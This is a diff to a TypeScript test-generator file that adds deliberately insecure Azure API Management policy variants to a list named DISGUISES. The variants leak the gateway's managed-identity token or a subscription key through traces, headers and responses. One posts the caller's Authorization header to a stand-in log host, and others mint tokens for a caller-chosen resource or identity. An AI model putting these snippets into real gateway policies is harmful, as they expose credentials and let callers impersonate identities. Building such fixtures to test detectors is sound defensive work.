@@ -12,6 +12,8 @@ const TABLE = '<set-variable name="access-requirement"';
 const before = (example: Example, statements: string): void => example.edit('appointments', CHECK, `${statements}${CHECK}`);
 const after = (example: Example, statements: string): void => example.edit('appointments', BACKEND, `${statements}${BACKEND}`);
 const outbound = (example: Example, statements: string): void => example.edit('appointments', '<outbound>\n\t\t<base />', `<outbound>\n\t\t<base />${statements}`);
+const header = (name: string, value: string): string => `<set-header name="${name}" exists-action="override"><value>${value}</value></set-header>`;
+const OWN_TOKEN = '<authentication-managed-identity resource="https://management.azure.com" output-token-variable-name="own" />';
 const trace = (code: string): string => `<trace source="x" severity="information"><message>${code}</message></trace>`;
 const named = (example: Example, name: string, value: string | undefined): void =>
   example.add('apis', 'azurerm_api_management_named_value', name, {
@@ -257,4 +259,18 @@ export const DISGUISES: readonly Hole[] = [
   ['every header logged by a policy', 45, (example) => after(example, trace('@(string.Join(",", context.Request.Headers.Select(h => h.Key + h.Value[0])))'))],
   ['the query logged by a policy, through an alias', 46, (example) => after(example, trace('@{ var u = context.Request.OriginalUrl; return u.QueryString; }'))],
   ['the query logged by a policy, through a variable', 46, (example) => after(example, `<set-variable name="q" value="@(context.Request.OriginalUrl.QueryString)" />${trace('@((string)context.Variables["q"])')}`)],
+  // What the gateway itself proves who it is with
+  ["the gateway's own token in a trace", 43, (example) => after(example, `${OWN_TOKEN}${trace('@((string)context.Variables["own"])')}`)],
+  ["the gateway's own token in a header of the answer", 41, (example) => outbound(example, `${OWN_TOKEN}${header('X-Debug', '@((string)context.Variables["own"])')}`)],
+  ["the gateway's own token in an answer, through a second variable", 41, (example) =>
+    after(example, `${OWN_TOKEN}<set-variable name="copy" value="@("t " + (string)context.Variables["own"])" /><return-response><set-status code="200" reason="OK" /><set-body>@((string)context.Variables["copy"])</set-body></return-response>`)],
+  ["a subscription's key in an answer", 41, (example) => outbound(example, header('X-Debug', '@(context.Subscription?.PrimaryKey)'))],
+  ['every variable in a trace', 43, (example) => after(example, trace('@(JsonConvert.SerializeObject(context.Variables))'))],
+  ["the caller's token told to a service that answers nothing", 43, (example) => after(example, `<send-one-way-request mode="new"><set-url>https://log.example/</set-url><set-method>POST</set-method><set-body>@(context.Request.Headers.GetValueOrDefault("Authorization", ""))</set-body></send-one-way-request>`)],
+  ['a body published through Dapr', 43, (example) => after(example, '<publish-to-dapr topic="calls">@(context.Request.Body.As<string>(preserveContent: true))</publish-to-dapr>')],
+  ['a token for whatever the caller names', 39, (example) => example.edit('appointments', 'resource="api://appointments-backend"', 'resource="@(context.Request.Headers.GetValueOrDefault("X-For", ""))"')],
+  ['a token as whichever identity the caller names, through a variable', 39, (example) => {
+    after(example, '<set-variable name="who" value="@(context.Request.Url.Query.GetValueOrDefault("who", ""))" />');
+    example.edit('appointments', 'client-id="{{identity-client-id}}"', 'client-id="@((string)context.Variables["who"])"');
+  }],
 ];
